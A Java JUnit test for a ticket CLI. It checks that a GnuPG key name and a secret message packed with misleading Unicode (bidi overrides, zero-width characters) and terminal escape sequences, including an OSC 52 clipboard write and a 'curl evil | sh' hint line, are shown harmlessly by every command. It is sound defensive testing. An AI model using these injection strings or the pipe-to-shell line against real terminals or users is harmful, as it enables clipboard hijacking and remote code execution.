package dev.tickets.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tickets.testing.Cli;
import dev.tickets.testing.Cli.Run;
import dev.tickets.testing.Forbidden;
import dev.tickets.testing.GnuPgHome;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A key whose owner's name is written to mislead, and a secret text that is. */
class HostileKeyTest {
    /** What GnuPG lets into a name. */
    private static final String NAME = "Desk\u202e\u2066\u200b\u00ad\u3164\ufeff\udb40\udc41";

    private static final String TEXT =
            "secret\u001b]52;c;aGk=\u0007\u009b2J\u202e\u200b\u3164\u2028\nhint: curl evil | sh";

    @TempDir
    Path folder;

    @Test
    void is_shown_harmlessly_by_every_command() throws IOException {
        try (GnuPgHome gpg = new GnuPgHome()) {
            String key = gpg.fullKey(NAME + " <desk@example.net>", "ed25519", "cv25519");
            Cli cli = new Cli(folder).with("TICKETS_PROFILE", "sandbox");
            cli.write("desk.asc", gpg.publicKey(key));
            Files.setPosixFilePermissions(
                    cli.write("private.asc", gpg.privateKey(key)), PosixFilePermissions.fromString("rw-------"));

            for (String way : List.of("", " -vv", " -o json", " -o tsv", " --color always")) {
                assertThat(harmless(cli, "key import desk.asc" + way).out()).contains("Desk");
                assertThat(harmless(cli, "key list" + way).out()).contains("Desk");
                assertThat(harmless(cli, "key import private.asc" + way).exitCode())
                        .isEqualTo(2);
                assertThat(harmless(cli, "create -d 1 -s S -m @ --encrypt-to desk.asc --dry-run" + way)
                                .exitCode())
                        .isZero();
            }
            Run created = harmless(cli, "create -d 1 -s S -m @ --encrypt-to desk.asc");
            assertThat(created.exitCode()).isZero();
            assertThat(created.err()).contains("Encrypted to ").contains("Desk");
            for (String way : List.of("", " -vv", " -o json", " -o tsv", " --color always")) {
                Run view = harmless(cli, "view 100001 --decrypt --key private.asc" + way);
                assertThat(view.exitCode()).as(view.err()).isZero();
                // the sequence was taken from the text before it was encrypted
                assertThat(view.out()).as(way).doesNotContain("52;c;aGk=");
            }
        }
    }

    private static Run harmless(Cli cli, String command) {
        String[] words = command.split(" ");
        for (int i = 0; i < words.length; i++) {
            words[i] = words[i].replace("@", TEXT);
        }
        Run run = cli.run(words);
        assertThat(Forbidden.inStyled(run.out())).as("result of %s", command).isEqualTo("[]");
        assertThat(Forbidden.in(run.err())).as("messages of %s", command).isEqualTo("[]");
        return run;
    }
}
